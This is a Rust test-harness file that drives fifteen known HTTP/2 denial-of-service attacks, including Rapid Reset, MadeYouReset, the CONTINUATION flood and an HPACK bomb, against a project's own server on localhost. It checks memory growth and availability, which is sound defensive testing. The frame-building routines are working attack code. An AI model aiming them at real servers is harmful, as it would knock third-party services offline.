//! `cargo xtask attack [--dev] [FILTER...]`: the denial-of-service attacks of
//! `docs/security.md` over TCP against the example server, 127.0.0.1 only.
//!
//! For each class a raw attacker (frames built with h2-frame and h2-hpack)
//! opens a connection and misbehaves, bounded in frames and in time. The
//! report gives the server's reaction (what it sent back), its peak RSS
//! growth during the attack (VmHWM, reset before each attack through
//! `/proc/PID/clear_refs`), and whether a fresh connection still gets an
//! answer to `GET /` afterwards (a small client on h2-proto). The run fails
//! when a reaction is not the expected one, the RSS grows past
//! [`RSS_LIMIT_KIB`], or `GET /` fails.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use bytes::{Bytes, BytesMut};
use h2_frame::{
    Continuation, Data, ErrorCode, Flags, Frame, FrameDecoder, FrameHeader, FrameKind, Headers,
    Ping, Priority, PrioritySpec, RstStream, Setting, SettingId, StreamId, WindowUpdate, PREFACE,
};
use h2_hpack::{Encoder, HeaderField};

use crate::peers::{self, Workspace};
use crate::Result;

/// The most a single attack may grow the server's resident memory.
const RSS_LIMIT_KIB: u64 = 4 << 10;
/// How long an attacker writes, at most.
const SEND_LIMIT: Duration = Duration::from_secs(5);
/// How long the attacker reads the server's answer, at most.
const READ_LIMIT: Duration = Duration::from_secs(5);
/// Frames are written in batches of about this size.
const BATCH: usize = 64 << 10;

pub(crate) fn attack(args: &[String]) -> Result {
    let mut release = true;
    let mut filters = Vec::new();
    for arg in args {
        match arg.as_str() {
            "--dev" => release = false,
            other if other.starts_with('-') => {
                return Err(format!("attack: unknown argument {other:?}"))
            }
            other => filters.push(other.to_string()),
        }
    }
    if !std::path::Path::new("/proc/self/status").exists() {
        return Err("attack needs /proc (Linux) to read the server's memory".into());
    }
    let examples = peers::build_examples(release)?;
    let work = Workspace::new("attack")?;
    let www = work.dir.join("www");
    std::fs::create_dir_all(&www).map_err(|e| format!("{}: {e}", www.display()))?;
    std::fs::write(www.join("big.bin"), vec![b'x'; 4 << 20]).map_err(|e| e.to_string())?;
    let server = peers::start_example_server(
        &examples.join("server").to_string_lossy(),
        &["--quiet", "--dir", &www.to_string_lossy()],
        &work.dir,
    )?;
    let address: SocketAddr = ([127, 0, 0, 1], server.port).into();
    let pid = server.service.pid();
    get_root(address)
        .map_err(|e| format!("the server does not answer GET / before any attack: {e}"))?;

    let started = Instant::now();
    let mut rows = Vec::new();
    for class in CLASSES {
        if !filters.is_empty() && !filters.iter().any(|f| class.name.contains(f.as_str())) {
            continue;
        }
        let before = memory(pid)?;
        reset_peak(pid)?;
        let began = Instant::now();
        let seen = (class.run)(address);
        let took = began.elapsed();
        // Let the server finish with the connection before its peak is read.
        std::thread::sleep(Duration::from_millis(100));
        let after = memory(pid)?;
        let growth = after.peak_kib.saturating_sub(before.rss_kib);
        let get = get_root(address);
        let reaction = seen
            .as_ref()
            .map_or_else(|e| format!("error: {e}"), Seen::describe);
        let expected_ok = seen.as_ref().is_ok_and(|s| (class.expect)(s));
        let ok = expected_ok && growth <= RSS_LIMIT_KIB && get.is_ok();
        rows.push(Row {
            name: class.name,
            expected: class.expected,
            reaction,
            growth,
            get: get.map_or_else(|e| format!("FAILED: {e}"), |status| status.to_string()),
            took,
            ok,
        });
    }
    let log = server.service.log();
    drop(server);
    print_table(&rows);
    eprintln!(
        "attack: {} classes in {:.1} s",
        rows.len(),
        started.elapsed().as_secs_f64()
    );
    let failed: Vec<&str> = rows.iter().filter(|r| !r.ok).map(|r| r.name).collect();
    if failed.is_empty() {
        Ok(())
    } else {
        Err(format!(
            "defences failed: {}\nserver log (tail):\n{}",
            failed.join(", "),
            tail(&log)
        ))
    }
}

/// One attack class: how to run it and what the server must do.
struct Class {
    name: &'static str,
    /// The reaction docs/security.md promises, for the report.
    expected: &'static str,
    run: fn(SocketAddr) -> Result<Seen>,
    expect: fn(&Seen) -> bool,
}

const CLASSES: &[Class] = &[
    Class {
        name: "rapid-reset",
        expected: "GOAWAY ENHANCE_YOUR_CALM",
        run: rapid_reset,
        expect: calm,
    },
    Class {
        name: "made-you-reset",
        expected: "RST FLOW_CONTROL_ERROR, then GOAWAY ENHANCE_YOUR_CALM",
        run: made_you_reset,
        expect: |s| calm(s) && s.resets.contains_key(&ErrorCode::FLOW_CONTROL_ERROR),
    },
    Class {
        name: "continuation-flood",
        expected: "GOAWAY ENHANCE_YOUR_CALM",
        run: continuation_flood,
        expect: calm,
    },
    Class {
        name: "hpack-bomb",
        expected: "RST ENHANCE_YOUR_CALM per stream, no GOAWAY",
        run: hpack_bomb,
        expect: |s| s.goaway.is_none() && s.resets.get(&ErrorCode::ENHANCE_YOUR_CALM) == Some(&50),
    },
    Class {
        name: "ping-flood",
        expected: "GOAWAY ENHANCE_YOUR_CALM (peer not reading)",
        run: ping_flood,
        expect: calm,
    },
    Class {
        name: "settings-flood",
        expected: "GOAWAY ENHANCE_YOUR_CALM (peer not reading)",
        run: settings_flood,
        expect: calm,
    },
    Class {
        name: "reset-flood",
        expected: "RST PROTOCOL_ERROR, then GOAWAY ENHANCE_YOUR_CALM (peer not reading)",
        run: reset_flood,
        expect: |s| calm(s) && s.resets.contains_key(&ErrorCode::PROTOCOL_ERROR),
    },
    Class {
        name: "empty-frames",
        expected: "GOAWAY ENHANCE_YOUR_CALM",
        run: empty_frames,
        expect: calm,
    },
    Class {
        name: "zero-window",
        expected: "response heads only, no DATA",
        run: zero_window,
        expect: |s| s.goaway.is_none() && s.data == 0 && s.heads == 100,
    },
    Class {
        name: "data-dribble",
        expected: "one octet per WINDOW_UPDATE",
        run: data_dribble,
        expect: |s| s.goaway.is_none() && s.data == 100 * 200,
    },
    Class {
        name: "unread-responses",
        expected: "output bounded while the peer does not read",
        run: unread_responses,
        expect: |s| s.goaway.is_none() && s.data > 0,
    },
    Class {
        name: "priority-loop",
        expected: "ignored, no reply",
        run: priority_loop,
        expect: |s| s.goaway.is_none() && s.resets.is_empty() && s.pings == 1,
    },
    Class {
        name: "zero-length-headers",
        expected: "RST PROTOCOL_ERROR per stream, no GOAWAY",
        run: zero_length_headers,
        expect: |s| s.goaway.is_none() && s.resets.get(&ErrorCode::PROTOCOL_ERROR) == Some(&1000),
    },
    Class {
        name: "stream-exhaustion",
        expected: "RST REFUSED_STREAM past 100 streams; id 2^31-1 served",
        run: stream_exhaustion,
        expect: |s| {
            s.resets.contains_key(&ErrorCode::REFUSED_STREAM)
                && s.goaway.is_none()
                && s.heads >= 101
        },
    },
    Class {
        name: "oversized-frame",
        expected: "GOAWAY FRAME_SIZE_ERROR",
        run: oversized_frame,
        expect: |s| s.goaway == Some(ErrorCode::FRAME_SIZE_ERROR),
    },
];

fn calm(seen: &Seen) -> bool {
    seen.goaway == Some(ErrorCode::ENHANCE_YOUR_CALM)
}

// ----- the attacks -----------------------------------------------------

fn request(path: &str) -> Vec<HeaderField> {
    vec![
        HeaderField::new(":method", "GET"),
        HeaderField::new(":scheme", "http"),
        HeaderField::new(":authority", "127.0.0.1"),
        HeaderField::new(":path", path.to_string()),
    ]
}

/// Rapid Reset (CVE-2023-44487): GET then RST_STREAM(CANCEL), 5,000 times.
fn rapid_reset(address: SocketAddr) -> Result<Seen> {
    let mut attacker = Attacker::connect(address, &[])?;
    let reader = attacker.reader();
    attacker.send_streams(5000, |a, id| {
        a.headers(id, &request("/"), true);
        a.frame(RstStream {
            stream_id: StreamId::new(id),
            error_code: ErrorCode::CANCEL,
        });
    });
    Ok(reader.finish(&attacker))
}

/// MadeYouReset (CVE-2025-8671): WINDOW_UPDATE overflowing each new
/// stream's window, so the server resets it; 5,000 times.
fn made_you_reset(address: SocketAddr) -> Result<Seen> {
    let mut attacker = Attacker::connect(address, &[])?;
    let reader = attacker.reader();
    attacker.send_streams(5000, |a, id| {
        a.headers(id, &request("/echo"), false);
        a.frame(WindowUpdate {
            stream_id: StreamId::new(id),
            increment: (1 << 31) - 1,
        });
    });
    Ok(reader.finish(&attacker))
}

/// The CONTINUATION flood (2024): HEADERS without END_HEADERS, then
/// 100,000 empty CONTINUATION frames.
fn continuation_flood(address: SocketAddr) -> Result<Seen> {
    let mut attacker = Attacker::connect(address, &[])?;
    let reader = attacker.reader();
    let block = attacker.block(&request("/"));
    attacker.frame(Headers {
        stream_id: StreamId::new(1),
        fragment: block,
        end_stream: true,
        end_headers: false,
        priority: None,
        padding: None,
    });
    attacker.send_repeated(100_000, |a, _| {
        a.frame(Continuation::new(StreamId::new(1), Bytes::new(), false));
    });
    Ok(reader.finish(&attacker))
}

/// The HPACK bomb (CVE-2016-6581): a 4 KiB table entry referenced 16,352
/// times in a 16 KiB block, on 50 streams.
fn hpack_bomb(address: SocketAddr) -> Result<Seen> {
    let mut attacker = Attacker::connect(address, &[])?;
    let reader = attacker.reader();
    // Hand-written so the attacker's encoder is not involved: :method GET,
    // :scheme http, :path /, :authority literal not indexed.
    let mut head = vec![0x82, 0x86, 0x84, 0x01, 9];
    head.extend_from_slice(b"127.0.0.1");
    let mut first = head.clone();
    first.extend_from_slice(&[0x40, 6]);
    first.extend_from_slice(b"x-bomb");
    first.extend_from_slice(&[0x7f, 0xbb, 0x1e]);
    first.extend_from_slice(&[b'a'; 4026]);
    attacker.raw_headers(1, first);
    let mut bomb = head;
    bomb.extend_from_slice(&[0xbe; (16 << 10) - 32]);
    for n in 0..50 {
        attacker.raw_headers(2 * n + 3, bomb.clone());
    }
    attacker.flush();
    Ok(reader.finish(&attacker))
}

/// The ping flood (CVE-2019-9512) from a peer that does not read.
fn ping_flood(address: SocketAddr) -> Result<Seen> {
    let mut attacker = Attacker::connect(address, &[])?;
    attacker.send_repeated(2_000_000, |a, n| {
        a.frame(Ping {
            ack: false,
            payload: (n as u64).to_be_bytes(),
        });
    });
    Ok(attacker.reader().finish(&attacker))
}

/// The settings flood (CVE-2019-9515) from a peer that does not read.
fn settings_flood(address: SocketAddr) -> Result<Seen> {
    let mut attacker = Attacker::connect(address, &[])?;
    attacker.send_repeated(2_000_000, |a, _| {
        a.frame(h2_frame::Settings::new(Vec::new()));
    });
    Ok(attacker.reader().finish(&attacker))
}

/// The reset flood (CVE-2019-9514): malformed requests, each refused with
/// RST_STREAM, from a peer that does not read.
fn reset_flood(address: SocketAddr) -> Result<Seen> {
    let mut attacker = Attacker::connect(address, &[])?;
    let mut bad = request("/");
    bad.push(HeaderField::new("Upper-Case", "not allowed in HTTP/2"));
    attacker.send_streams(1_000_000, |a, id| a.headers(id, &bad, true));
    Ok(attacker.reader().finish(&attacker))
}

/// Empty frames (CVE-2019-9518): an upload that sends 100,000 empty DATA.
fn empty_frames(address: SocketAddr) -> Result<Seen> {
    let mut attacker = Attacker::connect(address, &[])?;
    let reader = attacker.reader();
    attacker.headers(1, &request("/echo"), false);
    attacker.send_repeated(100_000, |a, _| {
        a.frame(Data::new(StreamId::new(1), Bytes::new()));
    });
    Ok(reader.finish(&attacker))
}

/// Zero window (CVE-2019-9517): 100 requests for a 4 MiB file with a
/// stream window of 0.
fn zero_window(address: SocketAddr) -> Result<Seen> {
    let settings = [Setting::new(SettingId::INITIAL_WINDOW_SIZE, 0)];
    let mut attacker = Attacker::connect(address, &settings)?;
    let reader = attacker.reader();
    attacker.send_streams(100, |a, id| a.headers(id, &request("/big.bin"), true));
    std::thread::sleep(Duration::from_millis(500));
    Ok(reader.finish(&attacker))
}

/// Data dribble (CVE-2019-9511): 100 requests for a 4 MiB file, each window
/// opened one octet at a time, 200 times.
fn data_dribble(address: SocketAddr) -> Result<Seen> {
    let settings = [Setting::new(SettingId::INITIAL_WINDOW_SIZE, 0)];
    let mut attacker = Attacker::connect(address, &settings)?;
    let reader = attacker.reader();
    attacker.send_streams(100, |a, id| a.headers(id, &request("/big.bin"), true));
    for _ in 0..200 {
        for n in 0..100 {
            attacker.frame(WindowUpdate {
                stream_id: StreamId::new(2 * n + 1),
                increment: 1,
            });
        }
        attacker.flush();
        std::thread::sleep(Duration::from_millis(5));
    }
    std::thread::sleep(Duration::from_millis(300));
    Ok(reader.finish(&attacker))
}

/// Internal data buffering (CVE-2019-9517): 100 requests for a 4 MiB file
/// with every window wide open, and the peer does not read for 2 s.
fn unread_responses(address: SocketAddr) -> Result<Seen> {
    let settings = [Setting::new(SettingId::INITIAL_WINDOW_SIZE, (1 << 31) - 1)];
    let mut attacker = Attacker::connect(address, &settings)?;
    attacker.frame(WindowUpdate {
        stream_id: StreamId::ZERO,
        increment: (1 << 31) - 1 - 65_535,
    });
    attacker.send_streams(100, |a, id| a.headers(id, &request("/big.bin"), true));
    std::thread::sleep(Duration::from_secs(2));
    // Then read a little, so the report shows the responses were flowing.
    let reader = attacker.reader();
    std::thread::sleep(Duration::from_millis(200));
    Ok(reader.finish(&attacker))
}

/// The resource loop (CVE-2019-9513): 500,000 PRIORITY frames reshuffling
/// 2,000 ids; then a PING to see the server is still there.
fn priority_loop(address: SocketAddr) -> Result<Seen> {
    let mut attacker = Attacker::connect(address, &[])?;
    let reader = attacker.reader();
    attacker.send_repeated(500_000, |a, n| {
        let n = n as u32;
        let id = 2 * (n % 2000) + 1;
        let parent = 2 * ((n * 7919) % 2000) + 1;
        let parent = if parent == id { 0 } else { parent };
        a.frame(Priority {
            stream_id: StreamId::new(id),
            spec: PrioritySpec::new(StreamId::new(parent), n % 3 == 0, (n % 256) as u8),
        });
    });
    attacker.frame(Ping {
        ack: false,
        payload: *b"still up",
    });
    attacker.flush();
    Ok(reader.finish(&attacker))
}

/// 0-length headers (CVE-2019-9516): 1,000 requests with 100 fields of
/// empty name and value each.
fn zero_length_headers(address: SocketAddr) -> Result<Seen> {
    let mut attacker = Attacker::connect(address, &[])?;
    let reader = attacker.reader();
    let mut block = vec![0x82, 0x86, 0x84, 0x01, 9];
    block.extend_from_slice(b"127.0.0.1");
    for _ in 0..100 {
        block.extend_from_slice(&[0x00, 0x00, 0x00]);
    }
    attacker.send_streams(1000, |a, id| a.raw_headers(id, block.clone()));
    Ok(reader.finish(&attacker))
}

/// Stream exhaustion: 100 uploads left open, then 20,000 more requests past
/// MAX_CONCURRENT_STREAMS, sent in small bursts, and a last one on stream
/// 2^31-1.
fn stream_exhaustion(address: SocketAddr) -> Result<Seen> {
    let mut attacker = Attacker::connect(address, &[])?;
    let reader = attacker.reader();
    for n in 0..100 {
        attacker.headers(2 * n + 1, &request("/echo"), false);
    }
    attacker.flush();
    let started = Instant::now();
    for burst in 0..100_u32 {
        for n in 0..200 {
            attacker.headers(201 + 2 * (burst * 200 + n), &request("/"), true);
        }
        attacker.flush();
        std::thread::sleep(Duration::from_millis(2));
        if started.elapsed() > SEND_LIMIT {
            break;
        }
    }
    // Free one slot, then jump to the last id.
    attacker.frame(Data {
        end_stream: true,
        ..Data::new(StreamId::new(1), Bytes::new())
    });
    attacker.flush();
    std::thread::sleep(Duration::from_millis(100));
    attacker.headers(StreamId::MAX.value(), &request("/"), true);
    attacker.flush();
    std::thread::sleep(Duration::from_millis(300));
    Ok(reader.finish(&attacker))
}

/// An oversized frame: 16 MB announced in a 9-octet header.
fn oversized_frame(address: SocketAddr) -> Result<Seen> {
    let mut attacker = Attacker::connect(address, &[])?;
    let reader = attacker.reader();
    let mut header = Vec::new();
    FrameHeader {
        length: (1 << 24) - 1,
        kind: FrameKind::DATA,
        flags: Flags::EMPTY,
        stream_id: StreamId::new(1),
    }
    .encode(&mut header);
    attacker.out.extend_from_slice(&header);
    attacker.flush();
    Ok(reader.finish(&attacker))
}

// ----- the attacker ----------------------------------------------------

/// A raw HTTP/2 client connection that writes whatever it is told.
struct Attacker {
    socket: TcpStream,
    encoder: Encoder,
    out: Vec<u8>,
    /// False once a write failed or timed out (the server stopped reading
    /// or closed).
    open: bool,
}

impl Attacker {
    /// Connects, sends the preface, SETTINGS with `settings` and an ACK of
    /// the server's SETTINGS (which is queued before it reads anything).
    fn connect(address: SocketAddr, settings: &[Setting]) -> Result<Self> {
        let socket = TcpStream::connect_timeout(&address, Duration::from_secs(2))
            .map_err(|e| format!("connect {address}: {e}"))?;
        let _ = socket.set_nodelay(true);
        socket
            .set_write_timeout(Some(Duration::from_secs(2)))
            .map_err(|e| e.to_string())?;
        let mut attacker = Self {
            socket,
            encoder: Encoder::new(),
            out: PREFACE.to_vec(),
            open: true,
        };
        attacker.frame(h2_frame::Settings::new(settings.to_vec()));
        attacker.frame(h2_frame::Settings::ack());
        attacker.flush();
        Ok(attacker)
    }

    fn frame(&mut self, frame: impl Into<Frame>) {
        frame.into().encode(&mut self.out);
        if self.out.len() >= BATCH {
            self.flush();
        }
    }

    fn block(&mut self, fields: &[HeaderField]) -> Bytes {
        let mut block = BytesMut::new();
        self.encoder.encode(fields, &mut block);
        block.freeze()
    }

    fn headers(&mut self, id: u32, fields: &[HeaderField], end_stream: bool) {
        let fragment = self.block(fields);
        self.frame(Headers {
            stream_id: StreamId::new(id),
            fragment,
            end_stream,
            end_headers: true,
            priority: None,
            padding: None,
        });
    }

    fn raw_headers(&mut self, id: u32, block: Vec<u8>) {
        self.frame(Headers {
            stream_id: StreamId::new(id),
            fragment: block.into(),
            end_stream: true,
            end_headers: true,
            priority: None,
            padding: None,
        });
    }

    fn flush(&mut self) {
        if self.open && !self.out.is_empty() && self.socket.write_all(&self.out).is_err() {
            self.open = false;
        }
        self.out.clear();
    }

    /// `count` times `each(self, n)`, until the server stops taking them or
    /// [`SEND_LIMIT`] passes.
    fn send_repeated(&mut self, count: usize, mut each: impl FnMut(&mut Self, usize)) {
        let started = Instant::now();
        for n in 0..count {
            each(self, n);
            if !self.open || (n % 1024 == 0 && started.elapsed() > SEND_LIMIT) {
                break;
            }
        }
        self.flush();
    }

    /// [`send_repeated`](Self::send_repeated) over new stream ids 1, 3, 5, ...
    fn send_streams(&mut self, count: u32, mut each: impl FnMut(&mut Self, u32)) {
        self.send_repeated(count as usize, |a, n| each(a, 2 * n as u32 + 1));
    }

    /// Starts reading what the server sends, on a thread.
    fn reader(&self) -> Reader {
        let socket = self.socket.try_clone();
        let handle = std::thread::spawn(move || match socket {
            Ok(socket) => read_all(socket),
            Err(e) => Err(e.to_string()),
        });
        Reader { handle }
    }
}

struct Reader {
    handle: JoinHandle<Result<Seen>>,
}

impl Reader {
    /// Stops the attack (our side of the connection closes for writing)
    /// and waits for what the server sent.
    fn finish(self, attacker: &Attacker) -> Seen {
        let _ = attacker.socket.shutdown(Shutdown::Write);
        match self.handle.join() {
            Ok(Ok(seen)) => seen,
            Ok(Err(e)) => Seen {
                error: Some(e),
                ..Seen::default()
            },
            Err(_) => Seen {
                error: Some("the reader panicked".into()),
                ..Seen::default()
            },
        }
    }
}

/// What the server sent back.
#[derive(Debug, Default)]
struct Seen {
    goaway: Option<ErrorCode>,
    /// RST_STREAM frames by error code.
    resets: BTreeMap<ErrorCode, usize>,
    /// Response HEADERS frames.
    heads: usize,
    /// DATA octets.
    data: usize,
    pings: usize,
    error: Option<String>,
}

impl Seen {
    fn describe(&self) -> String {
        let mut parts = Vec::new();
        if !self.resets.is_empty() {
            let resets: Vec<String> = self
                .resets
                .iter()
                .map(|(code, n)| format!("{n} x {code:?}"))
                .collect();
            parts.push(format!("RST {}", resets.join(", ")));
        }
        if self.heads > 0 {
            parts.push(format!("{} heads", self.heads));
        }
        if self.data > 0 {
            parts.push(format!("{} DATA octets", self.data));
        }
        if self.pings > 0 {
            parts.push(format!("{} PING ACKs", self.pings));
        }
        match self.goaway {
            Some(code) => parts.push(format!("GOAWAY {code:?}")),
            None => parts.push("no GOAWAY".into()),
        }
        if let Some(error) = &self.error {
            parts.push(format!("({error})"));
        }
        parts.join("; ")
    }
}

/// Reads frames until the server closes the connection or [`READ_LIMIT`]
/// passes. Only the first PING ACK's payload matters to the priority test.
fn read_all(mut socket: TcpStream) -> Result<Seen> {
    socket
        .set_read_timeout(Some(Duration::from_millis(200)))
        .map_err(|e| e.to_string())?;
    let mut decoder = FrameDecoder::new();
    // Accept the largest frames: the server's are within our default
    // maximum, but this reader must never be the one to fail.
    decoder.set_max_frame_size((1 << 24) - 1);
    let mut buf = BytesMut::new();
    let mut chunk = vec![0; 64 << 10];
    let mut seen = Seen::default();
    let started = Instant::now();
    let mut quiet_since = Instant::now();
    while started.elapsed() < READ_LIMIT {
        match socket.read(&mut chunk) {
            Ok(0) => break,
            Ok(n) => {
                quiet_since = Instant::now();
                buf.extend_from_slice(&chunk[..n]);
                loop {
                    match decoder.decode(&mut buf) {
                        Ok(Some(frame)) => note(&mut seen, frame),
                        Ok(None) => break,
                        Err(e) => return Err(format!("the server sent a bad frame: {e}")),
                    }
                }
            }
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                // A connection the server keeps open goes quiet: after our
                // half-close and a second of silence, the answer is complete.
                if quiet_since.elapsed() > Duration::from_secs(1) {
                    break;
                }
            }
            Err(_) => break,
        }
    }
    Ok(seen)
}

fn note(seen: &mut Seen, frame: Frame) {
    match frame {
        Frame::GoAway(goaway) => seen.goaway = Some(goaway.error_code),
        Frame::RstStream(rst) => *seen.resets.entry(rst.error_code).or_default() += 1,
        Frame::Headers(_) => seen.heads += 1,
        Frame::Data(data) => seen.data += data.payload.len(),
        Frame::Ping(ping) if ping.ack => seen.pings += 1,
        _ => {}
    }
}

// ----- GET / on a fresh connection -----------------------------------

/// A GET / with h2-proto over a blocking socket; the response status.
fn get_root(address: SocketAddr) -> Result<u16> {
    use h2_proto::{Config, Connection, Event};
    let mut socket = TcpStream::connect_timeout(&address, Duration::from_secs(2))
        .map_err(|e| format!("connect: {e}"))?;
    socket
        .set_read_timeout(Some(Duration::from_secs(5)))
        .map_err(|e| e.to_string())?;
    let mut conn = Connection::new(Config::client());
    conn.initiate_connection().map_err(|e| e.to_string())?;
    let id = conn
        .get_next_available_stream_id()
        .map_err(|e| e.to_string())?;
    conn.send_headers(id, request("/"), true)
        .map_err(|e| e.to_string())?;
    socket
        .write_all(&conn.data_to_send())
        .map_err(|e| format!("write: {e}"))?;
    let mut status = None;
    let mut chunk = vec![0; 16 << 10];
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(5) {
        let n = socket.read(&mut chunk).map_err(|e| format!("read: {e}"))?;
        if n == 0 {
            return Err("the server closed the connection".into());
        }
        let events = conn.receive_data(&chunk[..n]).map_err(|e| e.to_string())?;
        for event in events {
            match event {
                Event::ResponseReceived(response) if response.stream_id == id => {
                    status = response
                        .headers
                        .iter()
                        .find(|f| &f.name[..] == b":status")
                        .and_then(|f| std::str::from_utf8(&f.value).ok()?.parse().ok());
                }
                Event::DataReceived(data) => {
                    let _ = conn.acknowledge_received_data(data.flow_controlled_length, id);
                }
                Event::StreamEnded(ended) if ended.stream_id == id => {
                    return status.ok_or_else(|| "no :status".to_string());
                }
                Event::StreamReset(reset) if reset.stream_id == id => {
                    return Err(format!("reset: {:?}", reset.error_code));
                }
                _ => {}
            }
        }
        let out = conn.data_to_send();
        if !out.is_empty() {
            socket.write_all(&out).map_err(|e| format!("write: {e}"))?;
        }
    }
    Err("no answer within 5 s".into())
}

// ----- memory ----------------------------------------------------------

struct Memory {
    rss_kib: u64,
    peak_kib: u64,
}

/// VmRSS and VmHWM of a process.
fn memory(pid: u32) -> Result<Memory> {
    let path = format!("/proc/{pid}/status");
    let status = std::fs::read_to_string(&path).map_err(|e| format!("{path}: {e}"))?;
    let field = |name: &str| {
        status
            .lines()
            .find_map(|line| line.strip_prefix(name))
            .and_then(|rest| rest.split_whitespace().next()?.parse().ok())
            .ok_or_else(|| format!("{path}: no {name}"))
    };
    Ok(Memory {
        rss_kib: field("VmRSS:")?,
        peak_kib: field("VmHWM:")?,
    })
}

/// Resets VmHWM to the current RSS ("5" to clear_refs, Linux 4.0+).
fn reset_peak(pid: u32) -> Result {
    let path = format!("/proc/{pid}/clear_refs");
    std::fs::write(&path, "5").map_err(|e| format!("{path}: {e}"))
}

// ----- the report ------------------------------------------------------

struct Row {
    name: &'static str,
    expected: &'static str,
    reaction: String,
    growth: u64,
    get: String,
    took: Duration,
    ok: bool,
}

fn print_table(rows: &[Row]) {
    println!();
    println!(
        "| class | expected | server's reaction | peak RSS growth | GET / after | time | verdict |"
    );
    println!("| --- | --- | --- | --- | --- | --- | --- |");
    for row in rows {
        println!(
            "| {} | {} | {} | {} KiB | {} | {:.1} s | {} |",
            row.name,
            row.expected,
            row.reaction,
            row.growth,
            row.get,
            row.took.as_secs_f64(),
            if row.ok { "ok" } else { "FAILED" }
        );
    }
    println!();
}

fn tail(text: &str) -> String {
    let lines: Vec<&str> = text.lines().collect();
    lines[lines.len().saturating_sub(20)..].join("\n")
}
